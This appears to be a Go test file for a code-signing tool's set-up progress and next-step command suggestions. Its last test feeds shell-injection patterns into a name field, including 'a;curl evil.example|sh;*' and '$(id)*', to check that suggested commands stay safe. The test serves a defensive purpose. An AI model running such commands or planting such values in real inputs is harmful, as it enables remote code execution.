package template_test

import (
	"crypto/x509/pkix"
	"encoding/asn1"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/greatseal-io/greatseal/charter"
	"github.com/greatseal-io/greatseal/internal/template"
	"github.com/greatseal-io/greatseal/internal/trial"
	"github.com/greatseal-io/greatseal/statement"
)

// steps are the states of a set-up's steps, in a line.
func steps(s *template.Status) string {
	var out []string
	for _, x := range s.Steps {
		out = append(out, x.Name+" "+string(x.State))
	}
	return strings.Join(out, ", ")
}

// A set-up is followed from nothing to the first signature, from what there is alone.
func TestProgress(t *testing.T) {
	c, ref := head(t)
	d, err := draft(t, "windows-release", template.Answers{Name: "app"})
	if err != nil {
		t.Fatal(err)
	}
	payload, err := charter.Encode(d.Charter)
	if err != nil {
		t.Fatal(err)
	}
	ca, err := trial.NewAuthority(now)
	if err != nil {
		t.Fatal(err)
	}
	subject, err := asn1.Marshal(pkix.Name{CommonName: "Example"}.ToRDNSequence())
	if err != nil {
		t.Fatal(err)
	}
	leaf, err := ca.Issue(ca.Key.Public(), subject, false, now)
	if err != nil {
		t.Fatal(err)
	}
	f := template.Facts{Charter: c, Ref: ref, Now: now}
	id := strings.Repeat("ab", 32)
	replace := template.RequestFact{ID: id, Requester: "bob", Command: statement.CharterReplace, State: "pending", Open: true, Awaits: []string{"carol"}, Charter: d.Charter}
	for _, x := range []struct {
		what   string
		change func()
		want   string
		next   string // command, or who is waited for
	}{
		{"nothing", func() {}, "charter next", "greatseal app new TEMPLATE --name app"},
		{"proposed", func() { f.Requests = []template.RequestFact{replace} },
			"charter waiting, key later, certificate later, signature later", "waits for carol"},
		{"another charter came first", func() { f.Ref.ID = statement.IDOf([]byte("another")); f.Ref.Version = 2 },
			"charter next", "follows version 1: version 2 is in force"},
		{"in force", func() { f.Charter, f.Ref, f.Requests = d.Charter, d.Charter.Ref(payload), nil },
			"charter done, key next, certificate later, signature later", `greatseal key generate app --subject "CN=app,O=Example Ltd"`},
		{"generation asked", func() {
			f.Requests = []template.RequestFact{{ID: id, Command: statement.KeyGenerate, Key: "app", State: "pending", Open: true, Awaits: []string{"dave"}}}
		}, "charter done, key waiting, certificate later, signature later", "waits for dave"},
		{"generated", func() { f.Requests, f.Keys = nil, []template.KeyFact{{Name: "app", State: "active", Generated: true}} },
			"charter done, key done, certificate next, signature later", "greatseal key trial-ca --csr app.csr --out app.pem"},
		{"certificate asked", func() {
			f.Requests = []template.RequestFact{{ID: id, Command: statement.KeyImportCert, Key: "app", State: "pending", Open: true, Awaits: []string{"dave"}}}
		}, "charter done, key done, certificate waiting, signature later", "waits for dave"},
		{"certificate", func() { f.Requests, f.Keys[0].Chain = nil, [][]byte{leaf} },
			"charter done, key done, certificate done, signature next", "greatseal sign FILE --policy app"},
		{"signature asked", func() {
			f.Requests = []template.RequestFact{{ID: id, Command: statement.Sign, Policy: "app", State: "pending", Open: true, Requester: "alice", Awaits: []string{"bob"}}}
		}, "charter done, key done, certificate done, signature waiting", "waits for bob"},
		{"of another policy", func() { f.Requests[0].Policy = "other" }, "charter done, key done, certificate done, signature next", ""},
		{"signed", func() { f.Requests[0].Policy, f.Requests[0].State, f.Requests[0].Open = "app", "executed", false },
			"charter done, key done, certificate done, signature done", ""},
		{"expired", func() { f.Now = now.AddDate(3, 0, 0) }, "charter done, key done, certificate next, signature done", "it expired on"},
		{"suspended", func() { f.Now, f.Keys[0].State = now, "suspended" }, "charter done, key next, certificate done, signature done", "greatseal key resume app"},
		{"destroyed", func() { f.Keys[0].State = "destroyed" }, "charter done, key next, certificate done, signature done", "it was destroyed"},
	} {
		x.change()
		s := template.Progress("app", f)
		if got := steps(s); got != x.want {
			t.Errorf("%s: %s: want %s", x.what, got, x.want)
		}
		n := s.Next()
		if (n == nil) != (x.what == "signed") {
			t.Errorf("%s: next is %+v", x.what, n)
		}
		if n != nil && !strings.Contains(fmt.Sprint(n.Commands, n.Detail), x.next) {
			t.Errorf("%s: %+v: want %q", x.what, n, x.next)
		}
		if s.Ready != strings.HasSuffix(x.want, "signature done") {
			t.Errorf("%s: ready is %v", x.what, s.Ready)
		}
	}
}

// Formats that need no certificate are not asked for one.
func TestProgressWithoutCertificate(t *testing.T) {
	for name, want := range map[string]string{
		"containers": "greatseal key generate app --subject \"CN=app,O=Example Ltd\"",
		"android":    "greatseal key generate app --subject \"CN=app,O=Example Ltd\" --self-signed 365",
	} {
		d, err := draft(t, name, template.Answers{Name: "app"})
		if err != nil {
			t.Fatal(err)
		}
		s := template.Progress("app", template.Facts{Charter: d.Charter, Now: time.Now()})
		if n := s.Next(); n == nil || len(n.Commands) != 1 || n.Commands[0] != want {
			t.Errorf("%s: %+v", name, n)
		}
		if skipped := s.Steps[2].State == template.Skipped; skipped != (name == "containers") {
			t.Errorf("%s: certificate is %s", name, s.Steps[2].State)
		}
		if len(s.Publish) == 0 {
			t.Errorf("%s: nothing to hand out", name)
		}
	}
}

// What is shown to be run is nothing that a pattern of the charter's says to a shell.
func TestCommandsAreNoOnesElse(t *testing.T) {
	c, ref := head(t)
	for pattern, want := range map[string]string{
		"nightly-*": "nightly-FILE", "*.exe": "FILE.exe", "bin/*.tar.gz": "bin/FILE.tar.gz",
		"a;curl evil.example|sh;*": "FILE", "$(id)*": "FILE", "`id`*": "FILE", "a b*": "FILE", "--key*": "FILE", "[a-z]*": "FILE", "a?": "FILE", "a&b": "FILE", "a>b": "FILE", "a\"b": "FILE",
	} {
		p := c.Policies["release"]
		p.Names = []string{pattern}
		c.Policies["release"] = p
		s := template.Progress("release", template.Facts{Charter: c, Ref: ref, Now: now,
			Keys: []template.KeyFact{{Name: p.Key, State: "active", Generated: true, Chain: [][]byte{{0}}}}})
		all := strings.Join(s.Steps[len(s.Steps)-1].Commands, "\n")
		if got, _, ok := strings.Cut(strings.TrimPrefix(all, "greatseal sign "), " --policy"); !ok || got != want {
			t.Errorf("%q: %q", pattern, all)
		}
	}
}
